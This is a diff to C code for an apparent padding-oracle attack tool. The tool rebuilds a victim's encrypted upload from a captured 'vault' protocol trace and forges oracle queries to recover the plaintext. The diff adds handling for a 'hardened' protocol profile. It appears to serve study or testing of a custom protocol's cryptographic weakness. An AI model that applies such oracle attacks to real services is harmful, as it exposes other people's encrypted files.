@@ -38,6 +38,7 @@ struct oracle {
 	const char *name;
 	int fd; /* -1: the relay closed the last one (after a 1607) */
 	struct upload *up;
+	int hardened; /* the capture's profile */
 	size_t content_off; /* the template's content field */
 	unsigned long long queries;
 	uint8_t q[VAULT_MSG_MAX];
@@ -61,6 +62,27 @@ add_content(struct upload *up, const struct capture_frame *fr, size_t *have)
 	*have += f->len;
 }
 
+/* The next 828 the client sent, at or after from, either profile; -1. */
+static long
+next_packet(const struct capture *c, size_t from)
+{
+	long i = (long)from - 1;
+
+	while ((i = capture_find(
+		    c, (size_t)(i + 1), "vault", NULL, TRACE_SENT)) != -1)
+		if (strncmp(c->fr[i].step, "send_file", 9) == 0 &&
+		    c->fr[i].len >= VAULT_REQ_HDR + 12)
+			return i;
+	return -1;
+}
+
+/* An 828's packet_number. */
+static uint16_t
+packet_number(const struct capture_frame *fr)
+{
+	return vault_get_u16(fr->buf + VAULT_REQ_HDR + 8);
+}
+
 /*
  * The first whole upload in c: packet 0 of a send_file the client sent,
  * then its packets in order.  Dies (2) when there is none.
@@ -70,16 +92,11 @@ find_upload(const struct capture *c, struct upload *up)
 {
 	const struct capture_frame *fr;
 	size_t have = 0, next = 1, total;
-	long i;
+	long i = -1;
 
-	i = capture_find(c, 0, "vault", "send_file", TRACE_SENT);
-	for (; i != -1; i = capture_find(c, i + 1, "vault", "send_file",
-			    TRACE_SENT)) {
-		fr = &c->fr[i];
-		if (fr->len >= VAULT_REQ_HDR + 12 &&
-		    vault_get_u16(fr->buf + VAULT_REQ_HDR + 8) == 0)
-			break;
-	}
+	while ((i = next_packet(c, (size_t)(i + 1))) != -1 &&
+	    packet_number(&c->fr[i]) != 0)
+		;
 	if (i == -1)
 		errx(2, "the capture has no upload (a send_file packet 0)");
 	fr = &c->fr[i];
@@ -92,12 +109,10 @@ find_upload(const struct capture *c, struct upload *up)
 	if ((up->ct = malloc(up->n ? up->n : 1)) == NULL)
 		err(2, NULL);
 	add_content(up, fr, &have);
-	while (next < total &&
-	    (i = capture_find(c, i + 1, "vault", "send_file", TRACE_SENT)) !=
-		-1) {
+	while (next < total && (i = next_packet(c, (size_t)(i + 1))) != -1) {
 		fr = &c->fr[i];
 		if (memcmp(fr->buf, up->id, VAULT_ID) != 0 ||
-		    vault_get_u16(fr->buf + VAULT_REQ_HDR + 8) != next)
+		    packet_number(fr) != next)
 			continue;
 		add_content(up, fr, &have);
 		next++;
@@ -118,7 +133,8 @@ query(struct oracle *o, const uint8_t x[BLK], const uint8_t c[BLK])
 	uint16_t code;
 
 	vault_put_u32(p, 2 * BLK); /* content_size */
-	vault_put_u32(p + 4, BLK); /* orig_file_size */
+	/* orig_file_size: hardened, the same as content_size. */
+	vault_put_u32(p + 4, o->hardened ? 2 * BLK : BLK);
 	vault_put_u16(p + 8, 0); /* packet_number */
 	vault_put_u16(p + 10, 1); /* total_packets */
 	vault_put_name(p + 12, o->name);
@@ -290,16 +306,16 @@ padding_oracle_main(int argc, char *argv[])
 		errx(2, "the capture's send_file is %zu bytes", up.frame_len);
 	memcpy(o.q, up.frame, up.frame_len);
 	/* Faithful: name, then content; hardened: a nonce between them. */
-	o.content_off = VAULT_REQ_HDR + 12 + VAULT_NAME +
-	    (up.frame[VAULT_ID] == VAULT_VERSION_HARDENED ? VAULT_NONCE : 0);
+	o.hardened = up.frame[VAULT_ID] == VAULT_VERSION_HARDENED;
+	o.content_off =
+	    VAULT_REQ_HDR + 12 + VAULT_NAME + (o.hardened ? VAULT_NONCE : 0);
 	memset(o.q + o.content_off, 0, VAULT_PACKET);
 	attack_progress("the victim's upload: %zu blocks (%u bytes) under "
 			"client id %02x%02x%02x%02x...; the oracle: %s",
 	    up.n, up.orig_size, up.id[0], up.id[1], up.id[2], up.id[3], o.to);
 	if (up.n == 0 || (plain = malloc(up.n * BLK)) == NULL)
 		errx(up.n == 0 ? 1 : 2, "no ciphertext block to attack");
-	if (recover(&o, plain) == 0 &&
-	    (len = unpad(plain, up.n * BLK)) == -1)
+	if (recover(&o, plain) == 0 && (len = unpad(plain, up.n * BLK)) == -1)
 		attack_progress("the plaintext's padding is bad: no file");
 	forget_query(&o);
 	if (len >= 0)
